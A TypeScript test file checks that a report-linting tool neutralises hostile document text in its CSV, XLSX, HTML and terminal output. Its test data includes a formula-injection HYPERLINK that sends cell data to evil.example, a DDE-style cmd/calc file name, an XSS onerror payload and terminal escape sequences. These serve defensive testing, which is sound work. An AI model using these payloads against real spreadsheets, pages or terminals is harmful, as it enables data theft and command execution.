// Hostile text from documents on its way out (issue 15, 6 and 7): formulas in CSV, XLSX and the
// HTML report; control characters in what is printed to a terminal.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { csvSafe, toCsvLong, toCsvWide } from '../src/writers/csv.js';
import { toXlsx } from '../src/writers/xlsx.js';
import { html } from '../src/formatters/html.js';
import { stylish } from '../src/formatters/stylish.js';
import { terminalSafe } from '../src/text/terminal.js';
import { batchSummary, newTally, tallyResult } from '../src/cli/summary.js';
import type { FileResult, LintedReport } from '../src/types.js';
import { analyzeText, fixtureText } from './helpers/report.js';
import { runCli } from './helpers/cli.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
const FILE = '=cmd|\' /C calc\'!A0.txt';

/** The shanghai 2019 text (its 本年增/减 column is signed) with a hostile organ name, file name and a negative change. */
async function hostileReport(): Promise<LintedReport> {
  const r = await analyzeText(fixtureText('shanghai-office-2019', 'shanghai-office-2019.lo.txt'), {}, FILE);
  expect(r.template.id).toBe('gia-2019');
  r.meta.organ = FORMULA;
  const t = r.tables.proactive!;
  const row = Object.keys(t.values).find((k) => t.values[k]!.change !== undefined)!;
  t.values[row]!.change = -3;
  t.cells[row]!.change = { ...t.cells[row]!.change!, value: -3, raw: '-3' };
  return r;
}

describe('CSV formula injection (OWASP): both layouts', () => {
  it('csvSafe: text starting with = + - @ tab CR (or full-width) gets a leading quote; numbers and plain-number text do not', () => {
    for (const s of ['=1+1', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1', '＋1', '－1', '＠x', '-', '-abc']) expect(csvSafe(s)).toBe(`'${s}`);
    for (const v of [-3, 0, 5.5, '-3', '+4', '12.5', '', 'a=b', '阿合奇县人民政府']) expect(csvSafe(v)).toBe(v);
  });

  it('long layout: organ and file neutralised, the negative change stays a number; csv-parse reads the text back', async () => {
    const r = await hostileReport();
    const rows = parse(toCsvLong([r], { locale: 'en' }), { columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(50);
    for (const row of rows) {
      expect(row.organ).toBe(`'${FORMULA}`);
      expect(row.file).toBe(`'${FILE}`);
    }
    const change = rows.find((x) => x.column === 'change' && x.value === '-3');
    expect(change).toBeDefined();
    expect(change!.raw).toBe('-3');
    // every field that is not a number and starts a formula is neutralised
    for (const row of rows) for (const v of Object.values(row)) if (/^[=+\-@\t\r]/.test(v)) expect(v).toMatch(/^-?\d+(?:\.\d+)?$/);
  });

  it('wide layout: the same', async () => {
    const r = await hostileReport();
    const [head, line] = parse(toCsvWide([r])) as string[][];
    expect(line![0]).toBe(`'${FILE}`);
    expect(line![1]).toBe(`'${FORMULA}`);
    const k = head!.findIndex((h) => /^proactive\..*\.change$/.test(h) && line![head!.indexOf(h)] === '-3');
    expect(k).toBeGreaterThan(0);
    for (const v of line!) if (/^[=+\-@\t\r]/.test(v)) expect(v).toMatch(/^-?\d+(?:\.\d+)?$/);
  });
});

describe('XLSX and the HTML report are safe too', () => {
  it('XLSX (one report and the summary): the organ is a text cell, no cell holds a formula', async () => {
    const r = await hostileReport();
    for (const reports of [[r], [r, r]]) {
      const files = unzipSync(await toXlsx(reports, { locale: 'en' }));
      const xml = Object.entries(files)
        .filter(([n]) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n))
        .map(([, b]) => strFromU8(b))
        .join('\n');
      expect(xml).not.toMatch(/<f[ >]/); // no formula element anywhere
      expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;点击&quot;)');
    }
  });

  it('HTML report: the organ and file name are escaped text', async () => {
    const r = await hostileReport();
    r.meta.organ = '<img src=x onerror=alert(1)>' + FORMULA;
    const page = html([r], { locale: 'en', color: false, cwd: '/', quiet: false });
    expect(page).not.toContain('<img src=x');
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});

describe('control characters never reach the terminal', () => {
  const ESC = '\u001b';
  const nasty = `${ESC}]0;pwned\u0007${ESC}[2J\r\u009b31m\u007f`;

  it('terminalSafe shows C0 (but tab and newline), DEL and C1 instead of obeying them', () => {
    expect(terminalSafe(`a${nasty}b\tc\nd`)).toBe('a␛]0;pwned␇␛[2J␍\ufffd31m␡b\tc\nd');
    expect(terminalSafe('阿合奇县 plain')).toBe('阿合奇县 plain');
  });

  it('stylish: file names, organ, headings and quoted text from a document are shown safe (colour codes still work)', async () => {
    const text = fixtureText('akqi-2021', 'akqi-2021.txt').replace(/^阿合奇县人民政府/, `阿合奇县${nasty}人民政府`).replace('其他需要报告的事项', `其他需要${nasty}报告的事项`);
    const r = await analyzeText(text, {}, `evil${nasty}.txt`);
    const out = stylish([r], { locale: 'en', color: false, cwd: '/', quiet: false });
    expect(out).toMatch(/evil␛\]0;pwned␇␛\[2J␍/);
    expect(out).toMatch(/报告的事项/);
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    const fatal: FileResult = { path: `bad${nasty}.docx`, fatal: { code: 'E_CORRUPT_DOCX', message: `bad${nasty}.docx is not a valid .docx file: ${nasty}` } };
    const out2 = stylish([fatal], { locale: 'en', color: false, cwd: '/', quiet: false });
    expect(out2).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    const { Chalk } = await import('chalk');
    const colored = stylish([r, fatal], { locale: 'en', color: true, cwd: '/', quiet: false, paint: new Chalk({ level: 1 }) as never });
    // only SGR colour sequences remain
    expect(colored.replace(/\u001b\[\d+(?:;\d+)*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('the batch summary and the CLI', async () => {
    const t = newTally(2);
    tallyResult(t, { path: `x${nasty}.txt`, fatal: { code: 'E_EMPTY', message: `x${nasty}.txt is empty.` } });
    expect(batchSummary(t, [{ path: `y${nasty}.txt`, reason: 'binary' }], 'en', false)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    const r = await runCli(['lint', `missing${ESC}c\u0007\u009bx.txt`, '--locale', 'en']); // no [ ] in the name: not a glob
    expect(r.code).toBe(2);
    expect(r.out + r.err).toMatch(/missing␛c␇\ufffdx\.txt/);
    expect(r.out + r.err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});
